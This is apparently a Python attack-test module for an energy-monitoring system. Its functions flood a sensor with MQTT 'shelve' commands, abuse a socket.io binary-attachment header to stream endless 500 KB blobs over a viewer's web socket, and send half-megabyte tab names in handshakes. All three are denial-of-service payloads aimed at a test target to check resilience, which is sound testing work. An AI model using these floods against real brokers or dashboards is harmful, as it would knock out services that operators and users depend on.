"""What people with a password can do too much of."""

import asyncio
import contextlib
import time
from uuid import uuid4

from mqtt5 import PublishPacket, QoS
from websockets.exceptions import WebSocketException

from tests.attack.attacks.raw_client import packet_id, write_for
from tests.attack.target import AttackTarget
from tests.readings import payload

KNOWN_WITHIN_S = 2.0
ATTACHMENT = b"x" * 500_000


async def commands(target: AttackTarget, seconds: float) -> None:
    """Give a sensor commands as fast as the broker takes them, as an operator may."""
    async with target.wire("sensor-a1") as sensor:
        await sensor.publish("energy/readings/a/sensor-a1", payload("sensor-a1", 1.0))
    await asyncio.sleep(KNOWN_WITHIN_S)  # until the ingestor knows the sensor, or it would take none

    def packet(number: int) -> bytes:
        return PublishPacket(
            "energy/commands/a/sensor-a1",
            b'{"shelve": "silent", "minutes": %d}' % (number % 60 + 1),
            qos=QoS.AT_LEAST_ONCE,
            packet_id=packet_id(number),
        ).write()

    await write_for(target.world.url("operator"), "commands", seconds, packet)


async def endless_attachments(target: AttackTarget, seconds: float) -> None:
    """Announce a million attachments over a viewer's web socket, and send them."""
    token, until = await target.page.log_in("viewer"), time.monotonic() + seconds
    while time.monotonic() < until:
        with contextlib.suppress(OSError, WebSocketException, TimeoutError):
            async with target.page.socket(token) as socket, asyncio.timeout(until - time.monotonic()):
                await socket.plain.send('451000000-["event",{"_placeholder":true,"num":0}]')
                await asyncio.sleep(0.1)  # so that it is read before what it announces
                while True:
                    await socket.plain.send(ATTACHMENT)
        await asyncio.sleep(0.5)  # as a browser that was thrown out does


async def long_names(target: AttackTarget, seconds: float) -> None:
    """Load page after page as a viewer, and name each browser tab with half a megabyte."""
    token, until = await target.page.log_in("viewer"), time.monotonic() + seconds
    while time.monotonic() < until:
        page = await target.page.page(token, "/health")
        names = {"client_id": page.name, "tab_id": uuid4().hex.ljust(500_000, "x"), "old_tab_id": None}
        with contextlib.suppress(OSError, WebSocketException, TimeoutError):
            async with target.page.socket(token) as socket, asyncio.timeout(5):
                await socket.say("handshake", {**names, "document_id": str(uuid4()), "next_message_id": 0})
